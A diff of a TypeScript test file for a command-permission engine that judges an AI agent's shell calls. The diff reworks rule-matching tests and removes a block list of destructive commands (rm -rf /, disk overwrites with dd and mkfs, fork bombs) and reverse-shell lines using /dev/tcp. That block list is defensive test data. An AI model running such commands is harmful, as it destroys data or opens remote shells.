@@ -1,10 +1,17 @@
 import fc from 'fast-check'
 import t from 'tap'
+import { alwaysOptions } from '../../src/calls/always.ts'
 import type { RememberedRule } from '../../src/calls/call.ts'
-import { misleads, plainArgv, refusal } from '../../src/calls/command.ts'
-import { type JudgedPath, judge, type Question, type Rulebook, type Verdict } from '../../src/calls/policy.ts'
-import { alwaysOptions, type Facts, ruleFaults, ruleHolds } from '../../src/calls/rules.ts'
+import { judge } from '../../src/calls/policy.ts'
+import type { Facts, JudgedPath, Question, Rulebook, Verdict } from '../../src/calls/question.ts'
+import { matchFaults, ruleFaults } from '../../src/calls/rule-faults.ts'
+import { ruleHolds } from '../../src/calls/rules.ts'
 import type { ConfiguredRule, Match } from '../../src/config.ts'
+import { judgeCommand, parsersReady } from '../../src/shell/judge.ts'
+import { plainArgv } from '../../src/shell/plain.ts'
+import { line } from './lines.ts'
+
+await parsersReady()
 
 const NOW = Date.parse('2026-06-01T12:00:00Z')
 
@@ -25,7 +32,10 @@ const question = (more: Partial<Question> = {}): Question => ({
   ...more
 })
 const shell = (command: string, more: Partial<Question> = {}) =>
-  question({ tool: 'shell_exec', category: 'commands', effect: 'execute', paths: [], command, ...more })
+  question({ tool: 'shell_exec', category: 'commands', effect: 'execute', paths: [], command: line(command), ...more })
+/** The same as the real reader of command lines has it. */
+const read = (command: string) =>
+  shell('', { command: { ...judgeCommand(command, { forbidden: [], pids: [] }), text: command, named: [] } })
 const rulebook = (more: Partial<Rulebook> = {}): Rulebook => ({
   now: NOW,
   read_only: false,
@@ -229,8 +239,11 @@ t.test('a command rule that cannot be decided makes the call ask at least', asyn
   const rules = { user: [rule('deny', { command: 'git push', mode: 'prefix' }), rule('allow', { tool: 'shell_exec' })] }
   t.equal(decision(shell('git push --force'), rules), 'deny')
   t.equal(decision(shell('git status'), rules), 'allow')
-  for (const command of ['git "push"', 'true && git push', 'g=git; $g push', 'git pu\\sh', 'npm test | tee log'])
+  for (const command of ['git "push"', 'g=git; $g push', 'git pu\\sh'])
     t.equal(decision(shell(command), rules), 'ask', command)
+  for (const command of ['true && git push', 'git push | tee log', '/usr/bin/git push'])
+    t.equal(decision(shell(command), rules), 'deny', command)
+  t.equal(decision(shell('npm test | tee log'), rules), 'allow')
   t.equal(
     decision(shell('echo "a"'), {
       administrator: [rule('deny', { command: 'rm', mode: 'prefix' })],
@@ -271,7 +284,7 @@ t.test('no rule reaches what is refused for ever', async t => {
     judge(question({ effect: 'read', paths: [file('state', 'read', { protected: 'all' })] }), rulebook(allowed)),
     { decision: 'deny', code: 'SENSITIVE_PATH' }
   )
-  t.match(judge(shell('rm -rf /'), rulebook(allowed)), { decision: 'deny', code: 'COMMAND_BLOCKED' })
+  t.match(judge(shell('reboot'), rulebook(allowed)), { decision: 'deny', code: 'COMMAND_BLOCKED' })
 })
 
 t.test('a read-only server refuses all but reads', async t => {
@@ -322,8 +335,6 @@ t.test('what must always be shown is asked, whatever rule allows it', async t =>
   })
   t.equal(decision(rough, { user: [rule('deny')] }), 'deny')
   t.equal(decision(question({ effect: 'destructive', always_ask: 'x' })), 'strict')
-  t.equal(decision(shell('npm test\u200b'), { user: [rule('allow')] }), 'ask')
-  t.equal(decision(shell('npm\u00a0test'), { user: [rule('allow')] }), 'ask')
 })
 
 t.test('what destroys stays strict unless a rule allows it', async t => {
@@ -348,10 +359,16 @@ t.test('"always" offers literal rules, the narrowest first', async t => {
   )
   t.strictSame(
     options(shell('npm test && ls')).map(({ id, rule }) => [id, rule.match]),
-    ['session', 'workspace'].map(scope => [
-      `command:${scope}`,
-      { tool: 'shell_exec', command: 'npm test && ls', mode: 'exact' }
-    ])
+    [
+      ...['session', 'workspace'].map(scope => [
+        `command:${scope}`,
+        { tool: 'shell_exec', command: 'npm test && ls', mode: 'exact' }
+      ]),
+      ...['session', 'workspace'].map(scope => [
+        `prefix:${scope}`,
+        { tool: 'shell_exec', command: 'npm test', mode: 'prefix' }
+      ])
+    ]
   )
   t.strictSame(
     options(question({ paths: [file('a.ts', 'read'), file('a.ts')] })).map(({ id }) => id),
@@ -376,13 +393,12 @@ const text = fc.oneof(
 )
 
 t.test('an offered rule holds for the call, and for no other path or command than its label says', async () => {
-  const someFacts = (paths: string[], command?: string): Facts => ({
+  const someFacts = (paths: string[]): Facts => ({
     tool: 'a_tool',
     category: 'files',
     effect: 'write',
     client: 'test',
-    paths: paths.map(path => ({ path, access: 'write' as const })),
-    command
+    paths: paths.map(path => ({ path, access: 'write' as const }))
   })
   fc.assert(
     fc.property(somePath, somePath, (path, other) => {
@@ -398,20 +414,10 @@ t.test('an offered rule holds for the call, and for no other path or command tha
     }),
     { numRuns: 3_000 }
   )
-  fc.assert(
-    fc.property(text, text, (command, other) =>
-      alwaysOptions(someFacts([], command)).every(
-        ({ rule }) =>
-          ruleHolds(rule, someFacts([], command)) === true &&
-          ruleHolds(rule, someFacts([], other)) === (other === command)
-      )
-    ),
-    { numRuns: 2_000 }
-  )
 })
 
 t.test('a command rule matches the same text, or plain words with the same beginning, and nothing else', async t => {
-  const holds = (match: Match, command: string) => ruleHolds({ effect: 'allow', match }, shell(command)) === true
+  const holds = (match: Match, command: string) => ruleHolds({ effect: 'allow', match }, read(command)) === true
   const prefix = { command: 'npm test', mode: 'prefix' } as const
   const cases: [boolean, string][] = [
     [true, 'npm test'],
@@ -425,10 +431,10 @@ t.test('a command rule matches the same text, or plain words with the same begin
     [false, 'NPM test'],
     [false, 'x npm test'],
     [false, 'npm test && rm -rf x'],
-    [false, 'npm test;ls'],
+    [true, 'npm test;ls'],
     [false, 'npm test | sh'],
     [false, 'npm test &'],
-    [false, 'npm test\nls'],
+    [true, 'npm test\nls'],
     [false, 'npm test\r'],
     [false, 'npm test > x'],
     [false, 'npm test $(ls)'],
@@ -437,11 +443,14 @@ t.test('a command rule matches the same text, or plain words with the same begin
     [false, 'npm test *'],
     [false, 'npm test {a,b}'],
     [false, 'npm test ~'],
-    [false, 'npm test "a"'],
-    [false, "npm test 'a'"],
-    [false, 'npm test \\a'],
-    [false, 'npm test #a'],
-    [false, 'npm test !a'],
+    [true, 'npm test "a"'],
+    [true, "npm test 'a'"],
+    [true, 'npm test \\a'],
+    [true, 'npm test #a'],
+    [true, 'npm test !a'],
+    [true, 'npm test 2>/dev/null'],
+    [false, 'cd src && npm test'],
+    [false, 'npm test < x'],
     [false, 'A=b npm test'],
     [false, '\u00a0npm test'],
     [false, '\u1680npm test'],
@@ -470,16 +479,16 @@ t.test('a command rule matches the same text, or plain words with the same begin
       wild,
       (lead, more, x) => {
         const match = { command: lead.join(' '), mode: 'prefix' } as const
-        const assigns = /^[A-Za-z_][A-Za-z0-9_]*\+?=/.test(lead[0]!)
+        // Any text it matches consists of readers and of commands that begin with the same words.
         const good = [...lead, ...more].join(' ')
-        if (holds(match, good) === assigns) return false
-        // Any text it matches consists of plain words alone, and begins with the same ones.
-        for (const candidate of [x, good + x, x + good, `${lead.join(' ')}${x}${more.join(' ')}`]) {
-          if (!holds(match, candidate)) continue
-          const words = candidate.split(/[ \t]+/).filter(part => part !== '')
-          if (/[^A-Za-z0-9_./:@%+,=\- \t]/.test(candidate)) return false
-          if (lead.some((part, i) => words[i] !== part)) return false
+        for (const candidate of [x, good, good + x, x + good, `${lead.join(' ')}${x}${more.join(' ')}`]) {
+          const { literal, parts } = read(candidate).command!
+          const begins = parts.map(({ argv }) => argv !== undefined && lead.every((part, i) => argv[i] === part))
+          const covered =
+            literal && begins.includes(true) && parts.every((part, i) => part.class === 'auto' || begins[i])
+          if (holds(match, candidate) && !(covered && plainArgv(lead.join(' ')))) return false
         }
+        if (plainArgv(lead.join(' ')) && read(good).command!.literal && !holds(match, good)) return false
         return true
       }
     ),
@@ -508,185 +517,20 @@ t.test('plain words are what a shell would pass on as they are', async t => {
 })
 
 t.test('a rule that cannot hold as written is told', async t => {
-  const faults = (given: Partial<ConfiguredRule>) => ruleFaults({ effect: 'allow', match: {}, ...given }).length
-  t.equal(faults({ match: { tool: '*' } }), 0)
-  t.equal(faults({ match: {} }), 1)
-  t.equal(faults({ match: { tool: 'x', mode: 'prefix' } }), 1)
-  t.equal(faults({ match: { command: 'a "b"', mode: 'prefix' } }), 1)
-  t.equal(faults({ match: { command: 'a "b"' } }), 0)
+  const faults = async (given: Partial<ConfiguredRule>) =>
+    (await ruleFaults({ effect: 'allow', match: {}, ...given })).length
+  t.equal(await faults({ match: { tool: '*' } }), 0)
+  t.equal(await faults({ match: {} }), 1)
+  t.equal(await faults({ match: { tool: 'x', mode: 'prefix' } }), 1)
+  t.equal(await faults({ match: { command: 'a "b"', mode: 'prefix' } }), 1)
+  t.equal(await faults({ match: { command: 'a "b"' } }), 0)
   for (const field of ['tool', 'path', 'agent', 'client'] as const)
-    t.equal(faults({ match: { [field]: '[' } }), 1, `${field} that is no glob`)
+    t.equal(await faults({ match: { [field]: '[' } }), 1, `${field} that is no glob`)
   const npm = { match: { command: 'npm test', mode: 'prefix' as const } }
-  t.equal(faults({ ...npm, examples: { match: ['npm test a'], no_match: ['npm testx', 'npm test && ls'] } }), 0)
-  t.equal(faults({ ...npm, examples: { match: ['npm run'], no_match: ['npm test'] } }), 2)
-  t.equal(faults({ match: { path: 'src/**' }, examples: { match: ['src/a'], no_match: ['lib/a'] } }), 0)
-  t.equal(faults({ match: { tool: 'git_*' }, examples: { match: ['git_log'], no_match: ['edit'] } }), 0)
-})
-
-t.test('commands that are never right are refused in every usual spelling', async t => {
-  const never = [
-    'rm -rf /',
-    'rm -r -f /',
-    'rm -fr /',
-    'rm -Rf /',
-    'rm --recursive --force /',
-    'rm -rf -- /',
-    'rm -rf / --no-preserve-root',
-    'rm --no-preserve-root -rf /',
-    'rm / -rf',
-    'rm  -rf\t/',
-    'rm -rf //',
-    'rm -rf /.',
-    'rm -rf /*',
-    'rm -rf /./*',
-    'rm -rf /../',
-    'rm -rf x /',
-    'rm -rf ~',
-    'rm -rf ~/',
-    'rm -rf ~/*',
-    'rm -rf $HOME',
-    'rm -rf "$HOME"',
-    'rm -rf "$' + '{HOME}"/',
-    'rm -rf /home',
-    'rm -rf /etc/',
-    'rm -rf /usr/*',
-    'rm -rf ..',
-    'rm -rf ../',
-    "rm -rf '/'",
-    'rm -rf "/"',
-    'r\\m -rf /',
-    '"rm" -rf /',
-    'rm -rf \\/',
-    'rm -r\\\nf /',
-    '/bin/rm -rf /',
-    'sudo rm -rf /',
-    'sudo -n rm -rf /',
-    'sudo -u root rm -rf /',
-    'doas rm -rf /',
-    'env A=b rm -rf /',
-    'A=b rm -rf /',
-    'nohup nice -n 5 rm -rf /',
-    'time rm -rf /',
-    'exec rm -rf /',
-    'command rm -rf /',
-    'timeout 5 rm -rf /',
-    'xargs rm -rf /',
-    'busybox rm -rf /',
-    "bash -c 'rm -rf /'",
-    'sh -c "rm -rf /"',
-    "eval 'rm -rf /'",
-    'ls; rm -rf /',
-    'ls && rm -rf /',
-    'ls || rm -rf /',
-    'ls | rm -rf /',
-    'ls & rm -rf /',
-    '(rm -rf /)',
-    '{ rm -rf /; }',
-    '$(rm -rf /)',
-    '`rm -rf /`',
-    'if true; then rm -rf /; fi',
-    'ls\nrm -rf /',
-    'find / -exec rm -rf / +',
-    'dd if=/dev/zero of=/dev/sda',
-    'dd of="/dev/nvme0n1" if=x',
-    'sudo dd if=x of=/dev/vda1',
-    'echo x > /dev/sda',
-    'echo x >/dev/sda',
-    'echo x>/dev/sda',
-    'echo x >> /dev/sda',
-    'echo x >| /dev/sda',
-    'echo x 1> /dev/sda',
-    'echo x &> /dev/sda',
-    'echo x > "/dev/sda"',
-    'cat x | tee /dev/sda',
-    'cp x /dev/mmcblk0',
-    'mkfs /dev/sda1',
-    'mkfs.ext4 /dev/sda1',
-    '/sbin/mkfs.ext4 -F /dev/sda1',
-    'sudo wipefs -a /dev/sdb',
-    'shred /dev/disk/by-id/x',
-    ':(){ :|:& };:',
-    ':() { : | : & } ; :',
-    'bomb(){ bomb|bomb& };bomb',
-    'reboot',
-    'sudo reboot',
-    '/sbin/reboot',
-    'shutdown -h now',
-    'sudo shutdown now',
-    'ls && poweroff',
-    'halt',
-    'bash -i >& /dev/tcp/1.2.3.4/99 0>&1',
-    'bash -c "bash -i >& /dev/tcp/1.2.3.4/99 0>&1"',
-    'cat < /dev/udp/1.2.3.4/99',
-    'exec 3<>/dev/tcp/a/1',
-    'x'.repeat(65_537)
-  ]
-  for (const command of never) t.type(refusal(command), 'string', JSON.stringify(command.slice(0, 60)))
-})
-
-t.test('nothing harmless is refused', async t => {
-  const harmless = [
-    'ls',
-    'rm a.txt',
-    'rm -rf build',
-    'rm -rf ./build',
-    'rm -rf *',
-    'rm -rf ./*',
-    'rm -rf build/',
-    'rm -rf /tmp/x',
-    'rm -rf ~/project/build',
-    'rm -rf "$HOME/project/build"',
-    'rm -rf ../sibling',
-    'rm -f /etc/x',
-    'rm -rf $BUILD_DIR',
-    'rm -rf home etc usr',
-    'ls -r /',
-    'ls -R /',
-    'grep -r rm /',
-    'grep -rn "rm -rf /" .',
-    'rg "rm -rf /"',
-    'echo "rm -rf /"',
-    'printf %s "rm -rf ~"',
-    'git commit -m "never rm -rf /"',
-    'git rm -r ..',
-    'npm rm -r x',
-    'docker rm -f x',
-    'find . -name rm -r',
-    'make -r ..',
-    'npm run reboot',
-    'echo reboot',
-    'git log --grep shutdown',
-    'cat shutdown.md',
-    'systemctl status halt',
-    'echo x > /dev/null',
-    'echo x 2>/dev/null',
-    'echo x >/dev/stderr',
-    'dd if=/dev/zero of=disk.img',
-    'dd if=/dev/sda of=disk.img',
-    'cp /dev/sda disk.img',
-    'cat /dev/sda',
-    'ls /dev/sda',
-    'ls /dev/disk/by-id',
-    'lsblk /dev/sda',
-    'echo of=/dev/sda',
-    'grep -rn "/dev/tcp/" docs',
-    'echo mkfs',
-    'f() { echo a | cat & }; f',
-    'a(){ b|b& };a',
-    'npm test -- --watch=false',
-    ''
-  ]
-  for (const command of harmless) t.equal(refusal(command), undefined, JSON.stringify(command))
-})
-
-t.test('characters that do not show are found, all others are not', async t => {
-  for (const code of [
-    0x00, 0x07, 0x08, 0x0b, 0x0d, 0x1b, 0x7f, 0x85, 0x9b, 0xa0, 0xad, 0x34f, 0x61c, 0x115f, 0x1160, 0x1680, 0x17b4,
-    0x180e, 0x2000, 0x200b, 0x200e, 0x202e, 0x2028, 0x2029, 0x202f, 0x205f, 0x2060, 0x2066, 0x2800, 0x3000, 0x3164,
-    0xfe0f, 0xfeff, 0xffa0, 0xfff9, 0xd800, 0x1d173, 0xe0001, 0xe0041, 0xe0100
-  ])
-    t.equal(misleads(`a${String.fromCodePoint(code)}b`), true, code.toString(16))
-  for (const command of ['ls -la', 'a\tb\nc', 'echo é ü 日本 🎉 ≠ “x”', '']) t.equal(misleads(command), false, command)
+  t.equal(await faults({ ...npm, examples: { match: ['npm test a'], no_match: ['npm testx', 'npm test && rm x'] } }), 0)
+  t.equal(await faults({ ...npm, examples: { match: ['npm run'], no_match: ['npm test'] } }), 2)
+  t.equal(await faults({ match: { path: 'src/**' }, examples: { match: ['src/a'], no_match: ['lib/a'] } }), 0)
+  t.equal(await faults({ match: { tool: 'git_*' }, examples: { match: ['git_log'], no_match: ['edit'] } }), 0)
 })
 
 t.test('every question gets the same verdict twice, whatever is asked', async () => {
@@ -704,7 +548,7 @@ t.test('every question gets the same verdict twice, whatever is asked', async ()
       },
       { requiredKeys: [] }
     )
-    .filter(candidate => ruleFaults({ effect: 'allow', match: candidate }).length === 0)
+    .filter(candidate => matchFaults(candidate).length === 0)
   const rules = fc.array(
     fc.record({ effect: fc.constantFrom('allow' as const, 'ask' as const, 'deny' as const), match }),
     { maxLength: 3 }
@@ -722,7 +566,10 @@ t.test('every question gets the same verdict twice, whatever is asked', async ()
       }),
       { maxLength: 3 }
     ),
-    command: fc.option(text, { nil: undefined }),
+    command: fc.option(
+      text.map(each => line(each)),
+      { nil: undefined }
+    ),
     host: fc.option(text, { nil: undefined }),
     agent: fc.option(text, { nil: undefined }),
     client: text,
@@ -744,59 +591,4 @@ t.test('every question gets the same verdict twice, whatever is asked', async ()
     }),
     { numRuns: 1_500 }
   )
-})
-
-t.test('64 KiB of anything is judged', async t => {
-  const long = 65_536
-  for (const piece of [
-    'a',
-    ' ',
-    '\t',
-    '\\\n',
-    '\\',
-    '"',
-    "'",
-    '(',
-    '){',
-    ':',
-    ':()',
-    ':(){ ',
-    ':|',
-    'a.',
-    '$(',
-    '`',
-    '>',
-    '> ',
-    '&',
-    '&>',
-    ';',
-    '|',
-    '||',
-    'rm ',
-    'rm -r ',
-    '/',
-    '//',
-    '/.',
-    '/./',
-    '/ ',
-    '-',
-    '-r ',
-    'of=',
-    '/dev/sd',
-    '>/dev/',
-    'é',
-    '\u200b',
-    'x=',
-    'sudo ',
-    'env a=b ',
-    '{',
-    '}',
-    '<',
-    '\n'
-  ]) {
-    const command = piece.repeat(Math.floor(long / piece.length))
-    for (const text of [command, `${command}!`, `!${command}`.slice(0, long)]) {
-      t.type(judge(shell(text), rulebook({ user: [rule('allow', { command: 'a', mode: 'prefix' })] })).reason, 'string')
-    }
-  }
 })
